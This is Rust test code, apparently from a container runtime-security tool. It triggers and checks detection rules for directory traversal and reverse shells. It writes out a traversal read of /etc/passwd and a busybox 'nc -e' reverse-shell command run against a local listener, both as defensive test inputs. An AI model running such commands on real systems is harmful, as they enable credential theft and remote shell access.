fn directory_traversal_monitored_file_read() {
    let Some(d) = start_daemon("directory_traversal_monitored_file_read") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    // Run by runc, not a shell (the rule leaves out children of shells): a read through
    // `../`, and a failed one (open_file_failed: fd.num -1 and evt.res an errno).
    c.exec_ok(&["peer_actions", "open", "/www/../../etc/passwd", "r"]);
    let missing = c.exec(&[
        "peer_actions",
        "open",
        "/www/cgi-bin/../../../etc/none",
        "r",
    ]);
    assert!(!missing.status.success(), "/etc/none should not exist");
    let rule = "Directory traversal monitored file read";
    let needs = "fd.nameraw (the path as passed) and fd.name (normalised); open_read (fd.num >= 0) \
                 or open_file_failed (fd.num = -1 and evt.res startswith E)";
    all_ok(vec![
        check_rule(
            &d,
            rule,
            "an open of /www/../../etc/passwd",
            needs,
            |f| c.is(f) && f["fd.nameraw"] == "/www/../../etc/passwd",
            |f| c.is(f) && f["fd.name"] == "/etc/passwd",
        ),
        check_rule(
            &d,
            rule,
            "a failed open of /www/cgi-bin/../../../etc/none",
            needs,
            |f| c.is(f) && f["fd.nameraw"] == "/www/cgi-bin/../../../etc/none",
            |f| c.is(f) && f["fd.name"] == "/etc/none" && f["evt.res"] == "ENOENT",
        ),
    ]);
}

#[test]
fn redirect_stdout_stdin_to_network_connection_in_container() {
    let Some(d) = start_daemon("redirect_stdout_stdin_to_network_connection_in_container") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    // A reverse shell: busybox `nc -e` moves the connected socket onto stdin (dup2) and
    // duplicates it onto stdout and stderr before it executes the program. The attacker's end
    // listens in the same container; the client retries until the listener is up.
    c.spawn(&["nc", "-l", "-p", "5556"]);
    c.exec_ok(&[
        "sh",
        "-c",
        "for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do \
         nc 127.0.0.1 5556 -e /bin/true && exit 0; sleep 0.2; done; exit 1",
    ]);
    let dup = |f: &Value| {
        c.is(f)
            && matches!(f["evt.type"].as_str(), Some("dup" | "dup2" | "dup3"))
            && f["fd.sport"] == 5556
    };
    let a = expect_rule(
        &d,
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "`nc 127.0.0.1 5556 -e /bin/true` (the socket duplicated onto stdio) in a container",
        "dup, evt.rawres in (0, 1, 2) (the new descriptor), fd.type ipv4/ipv6",
        dup,
        dup,
    );
    let res = a["output_fields"]["evt.rawres"].as_i64().unwrap_or(-1);
    assert!((0..=2).contains(&res), "{a:#}");
}
